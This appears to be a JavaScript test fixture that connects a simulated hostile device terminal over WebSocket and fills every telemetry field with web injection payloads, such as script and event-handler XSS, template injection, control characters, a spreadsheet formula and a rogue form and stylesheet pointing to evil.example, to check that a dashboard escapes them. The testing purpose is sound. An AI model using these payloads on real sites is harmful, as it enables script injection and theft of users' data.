// Terminals that say the worst in every text they may say, one for each kind of worst.
import WebSocket from "ws";

/** Each would show itself: by `owned`, by an element with `data-owned`, by a dialog, or by breaking the page. */
export const PAYLOADS = {
  script: "<script>globalThis.owned=1</script>",
  image: '<img data-owned src=x onerror="globalThis.owned=1">',
  svg: "<svg data-owned onload=globalThis.owned=1><animate onbegin=globalThis.owned=1 attributeName=x dur=1s>",
  attribute: '" data-owned autofocus onfocus=globalThis.owned=1 x="',
  "single quotes": "' data-owned onmouseover=globalThis.owned=1 x='",
  "end of title": "</title></textarea></style></script><b data-owned>",
  comment: "--><b data-owned>",
  address: "javascript:globalThis.owned=1",
  entities: "&lt;b data-owned&gt;&#60;b data-owned&#62;",
  template: "{{shell.csrf}}{{{shell.csrf}}}${globalThis.owned=1}<%= 1 %>",
  "form of its own": "</form><form data-owned action=https://evil.example><input name=csrf>",
  "style of its own": "<style data-owned>*{display:none}</style><link data-owned rel=stylesheet href=//evil.example>",
  "turned around": "\u202egnp.exe\u2066<b data-owned>\u2069\u200f",
  controls: "a\u0000b\u0007\u001b[31mred\u001b[0m\r\n<b data-owned>\u2028\u2029",
  formula: "=HYPERLINK(\"https://evil.example\",\"<b data-owned>\")",
  long: `${"W".repeat(3000)}<b data-owned>`,
};

/** Connects a terminal that runs app1 1.0.0, reports the payload everywhere, and refuses every update with it. */
export function connectHostile(origin, token, device_id, payload) {
  const socket = new WebSocket(`${origin.replace("http", "ws")}/ws`, { headers: { Authorization: `Bearer ${token}` } });
  const now = () => Math.floor(Date.now() / 1000);
  const send = (message) => socket.send(JSON.stringify(message));
  const report = () => ({
    device_id, timestamp: now(), cpu_utilization: 97.5, load_average: [3, 2, 1],
    sd_card: [{ name: payload, total: 32000, used: 31000, free: 1000 }],
    temprature: [{ type: payload, degree: 71.5 }],
    status: [{ process: payload, status: payload.slice(0, 400).repeat(5) }],
    location: { latitude: 31.2304, longtitude: 121.4737, altitude: 4.5 },
    weather: payload, speed: 42, [payload.slice(0, 60)]: payload, "": { [payload.slice(0, 60)]: [payload] },
  });
  return new Promise((resolve, reject) => {
    socket.on("error", reject);
    socket.on("close", (code, reason) => reject(new Error(`${device_id} was sent away: ${code} ${reason}`)));
    socket.on("open", () => send({
      device_id, timestamp: now(), timezone: payload, hardware: payload, version_list: [{ name: "app1", version: "1.0.0" }],
      [payload.slice(0, 60)]: payload,
    }));
    socket.on("message", (data, binary) => {
      const message = binary ? {} : JSON.parse(data.toString());
      if (message.type === "welcome") {
        send(report());
        send({ ...report(), timestamp: now() + 1, cpu_utilization: 12 });
        resolve(socket);
      } else if (message.type === "update_list") {
        const refused = message.update_list.map(({ app_name, version }) =>
          ({ app_name, version, reason: payload.slice(0, 200), error: payload }));
        send({ update_list: [], declined: refused });
      }
    });
  });
}
